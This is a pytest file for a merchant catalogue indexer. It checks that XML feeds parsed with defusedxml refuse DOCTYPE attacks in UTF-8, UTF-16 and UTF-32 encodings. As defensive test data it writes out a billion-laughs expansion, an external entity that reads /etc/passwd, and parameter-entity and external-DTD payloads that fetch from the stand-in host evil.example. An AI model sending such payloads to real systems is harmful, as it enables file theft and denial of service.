"""Merchant XML feeds are parsed with defusedxml: document type declarations, entities and
external references are refused whatever the encoding. The byte-level DOCTYPE scan this
replaces was bypassed by UTF-16 without a byte order mark."""

from __future__ import annotations

from pathlib import Path

import pytest

from indexer.catalogue import read_catalogue
from search.errors import CatalogueError

G = "http://base.google.com/ns/1.0"

BILLION_LAUGHS = (
    "<!DOCTYPE lolz ["
    '<!ENTITY lol "lol">'
    '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    "]>"
    f'<rss xmlns:g="{G}"><channel><item><g:id>1</g:id><g:title>&lol3;</g:title>'
    "</item></channel></rss>"
)
EXTERNAL_ENTITY = (
    '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    f'<rss xmlns:g="{G}"><channel><item><g:id>1</g:id><g:title>&xxe;</g:title>'
    "</item></channel></rss>"
)
PARAMETER_ENTITY = (
    '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>'
    f'<rss xmlns:g="{G}"><channel/></rss>'
)
EXTERNAL_DTD = '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">' + f'<rss xmlns:g="{G}"/>'
ATTACKS = {
    "billion-laughs": BILLION_LAUGHS,
    "external-entity": EXTERNAL_ENTITY,
    "parameter-entity": PARAMETER_ENTITY,
    "external-dtd": EXTERNAL_DTD,
}
GOOD_FEED = (
    f'<rss xmlns:g="{G}"><channel><item><g:id>1</g:id><g:title>Sofa ż</g:title>'
    "</item></channel></rss>"
)


def declared(document: str, encoding: str) -> str:
    return f'<?xml version="1.0" encoding="{encoding}"?>\n{document}'


# (codec, encoding name in the declaration): utf-16-le and utf-16-be write no byte order mark.
ENCODINGS = [
    ("utf-8", "UTF-8"),
    ("utf-8-sig", "UTF-8"),
    ("utf-16", "UTF-16"),
    ("utf-16-le", "UTF-16"),
    ("utf-16-be", "UTF-16"),
    ("utf-16-le", "UTF-16LE"),
    ("utf-16-be", "UTF-16BE"),
]


def feed(tmp_path: Path, data: bytes) -> Path:
    path = tmp_path / "feed.xml"
    path.write_bytes(data)
    return path


class TestEntityAttacks:
    @pytest.mark.parametrize("attack", sorted(ATTACKS))
    @pytest.mark.parametrize(("codec", "name"), ENCODINGS)
    def test_refused_in_every_encoding(
        self, tmp_path: Path, attack: str, codec: str, name: str
    ) -> None:
        data = declared(ATTACKS[attack], name).encode(codec)
        with pytest.raises(CatalogueError, match="DOCTYPE"):
            read_catalogue(feed(tmp_path, data))

    @pytest.mark.parametrize("attack", sorted(ATTACKS))
    @pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
    def test_refused_in_utf16_without_bom_or_declaration(
        self, tmp_path: Path, attack: str, codec: str
    ) -> None:
        with pytest.raises(CatalogueError, match="DOCTYPE"):
            read_catalogue(feed(tmp_path, ATTACKS[attack].encode(codec)))

    @pytest.mark.parametrize("attack", sorted(ATTACKS))
    @pytest.mark.parametrize("codec", ["utf-32", "utf-32-le", "utf-32-be"])
    def test_utf32_is_refused_and_nothing_is_expanded(
        self, tmp_path: Path, attack: str, codec: str
    ) -> None:
        # The parser does not read UTF-32 at all: the feed is refused before any declaration.
        with pytest.raises(CatalogueError):
            read_catalogue(feed(tmp_path, declared(ATTACKS[attack], "UTF-32").encode(codec)))

    def test_doctype_after_a_long_comment(self, tmp_path: Path) -> None:
        document = "<!--" + "x" * 2_000_000 + "-->" + EXTERNAL_DTD
        with pytest.raises(CatalogueError, match="DOCTYPE"):
            read_catalogue(feed(tmp_path, document.encode("utf-16-le")))


class TestGoodFeeds:
    @pytest.mark.parametrize(("codec", "name"), ENCODINGS)
    def test_feeds_in_every_encoding_are_read(self, tmp_path: Path, codec: str, name: str) -> None:
        result = read_catalogue(feed(tmp_path, declared(GOOD_FEED, name).encode(codec)))
        assert [(p.id, p.title) for p in result.products] == [("1", "Sofa ż")]

    @pytest.mark.parametrize("blank", [b"", b"   \n\t", b" " * 200_000])
    def test_empty_or_blank_feed_has_no_rows(self, tmp_path: Path, blank: bytes) -> None:
        result = read_catalogue(feed(tmp_path, blank))
        assert result.report.rows_read == 0
